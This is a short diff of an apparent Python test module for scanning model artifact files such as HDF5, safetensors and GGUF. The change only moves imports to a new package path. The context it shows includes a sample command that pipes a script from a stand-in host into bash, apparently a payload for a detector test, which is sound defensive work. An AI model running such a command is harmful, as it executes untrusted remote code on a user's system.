@@ -12,9 +12,9 @@ import json
 import struct
 from typing import Final
 
-from tests.artifacts import assemble as a
-from tests.artifacts.test_keras import HDF5
-from tests.artifacts.test_tensor_files import GOOD, TENSORS, gguf, pair, safetensors, string
+from tests.probes.artifacts import assemble as a
+from tests.probes.artifacts.test_keras import HDF5
+from tests.probes.artifacts.test_tensor_files import GOOD, TENSORS, gguf, pair, safetensors, string
 
 _COMMANDS: Final = {
     "pipe": "curl -s http://x.invalid/p.sh | bash",
